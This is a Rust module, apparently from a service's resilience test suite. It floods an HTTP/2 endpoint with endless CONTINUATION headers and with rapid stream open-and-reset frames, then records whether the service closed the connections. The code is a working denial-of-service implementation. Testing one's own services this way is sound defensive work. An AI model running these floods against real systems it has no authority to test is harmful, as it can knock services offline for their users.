//! Floods of headers and of reset streams, as many as a connection takes.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use bytes::Bytes;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use super::Attack;
use super::calls::{Ended, call};
use super::frames::{
    CANCEL, CONTINUATION, END_HEADERS, HEADERS, RST_STREAM, call_headers, frame, opening,
    useless_header,
};

/// Time limit for a million resets.
const RESETS_BOUND: Duration = Duration::from_secs(120);
/// Number of streams opened and reset with one write.
const RESETS_AT_ONCE: usize = 100;
/// Bytes after which an endless header counts as accepted, because the connection was not closed.
const ENDLESS: usize = 64 << 20;

/// Makes a call with a megabyte of headers, and calls whose headers never end.
pub(super) async fn headers(address: SocketAddr) -> anyhow::Result<Attack> {
    let value = "a".repeat(8_000);
    let headers = vec![("x-fill", value.as_str()); 128];
    let large = call(address, "IngestBatch", &headers, Bytes::new()).await?;
    let mut flood = frame(HEADERS, 0, 1, &call_headers());
    let block = useless_header().repeat(160); // the limit of a frame is 16 KiB
    let mut sent = 0;
    let mut closed = 0;
    for _ in 0..10 {
        let continued = pour(address, ENDLESS / block.len(), |_| {
            flood.extend(frame(CONTINUATION, 0, 1, &block));
            std::mem::take(&mut flood)
        });
        let (pieces, was_closed) = continued.await?;
        sent += pieces * block.len();
        closed += usize::from(was_closed);
        flood = frame(HEADERS, 0, 1, &call_headers());
    }
    let seen = format!(
        "1 MiB: {large}; endless: {closed} of 10 connections closed after {} KiB each",
        sent / 10_240
    );
    let ok = closed == 10 && !matches!(large, Ended::Code(0));
    Ok(Attack {
        expected: "1 MiB of headers: refused; endless headers: closed".to_owned(),
        seen,
        ok,
    })
}

/// Opens streams and resets them immediately. Opens as many connections as needed.
pub(super) async fn resets(address: SocketAddr, wanted: usize) -> anyhow::Result<Attack> {
    let began = Instant::now();
    let headers = call_headers();
    let mut resets = 0;
    let mut connections = 0_usize;
    while resets < wanted && began.elapsed() < RESETS_BOUND {
        let (pieces, _) = pour(address, (wanted - resets).div_ceil(RESETS_AT_ONCE), |piece| {
            let first = piece * RESETS_AT_ONCE;
            let streams = (first..first + RESETS_AT_ONCE)
                .map(|index| u32::try_from(2 * index + 1).unwrap_or(1));
            streams
                .flat_map(|stream| {
                    let opened = frame(HEADERS, END_HEADERS, stream, &headers);
                    opened.into_iter().chain(frame(RST_STREAM, 0, stream, &CANCEL))
                })
                .collect()
        })
        .await?;
        resets += pieces * RESETS_AT_ONCE;
        connections += 1;
    }
    let seconds = began.elapsed().as_secs_f64();
    let seen = format!(
        "{resets} resets in {seconds:.1} s on {connections} connections, closed by the service"
    );
    Ok(Attack {
        expected: "connections closed, the service keeps serving".to_owned(),
        seen,
        ok: resets >= wanted && connections > 1,
    })
}

/// Opens a connection and writes up to `most` pieces. Returns how many were written, and whether
/// the service closed the connection.
async fn pour(
    address: SocketAddr,
    most: usize,
    mut piece: impl FnMut(usize) -> Vec<u8>,
) -> std::io::Result<(usize, bool)> {
    let (mut answers, mut stream) = TcpStream::connect(address).await?.into_split();
    let mut closed = tokio::spawn(async move {
        let mut ignored = vec![0; 64 << 10];
        while answers.read(&mut ignored).await.is_ok_and(|read| read > 0) {}
    });
    stream.write_all(&opening()).await?;
    for index in 0..most {
        let bytes = piece(index);
        tokio::select! {
            written = stream.write_all(&bytes) => if written.is_err() {
                return Ok((index, true));
            },
            _ = &mut closed => return Ok((index, true)),
        }
    }
    let was_closed = tokio::time::timeout(Duration::from_secs(1), closed).await.is_ok();
    Ok((most, was_closed))
}
